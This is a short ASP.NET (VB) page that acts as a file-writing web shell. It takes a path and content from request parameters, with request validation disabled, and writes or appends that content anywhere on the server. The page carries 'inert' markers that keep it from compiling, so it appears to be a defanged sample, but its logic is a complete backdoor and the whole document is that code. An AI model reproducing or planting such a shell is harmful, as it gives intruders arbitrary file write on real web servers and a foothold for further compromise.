<%@ Page Language="VB" Inherits="Inert.Nothing" ValidateRequest="false" %>
<%
#Error inert
Dim n = Request.Params("n")
If Not n Is Nothing Then
  Dim sw As New IO.StreamWriter(Server.MapPath(n), Request.Params("a") = "1", Encoding.UTF8)
  sw.Write(Server.UrlDecode(Request.Params("t")))
  sw.Close()
End If
%>
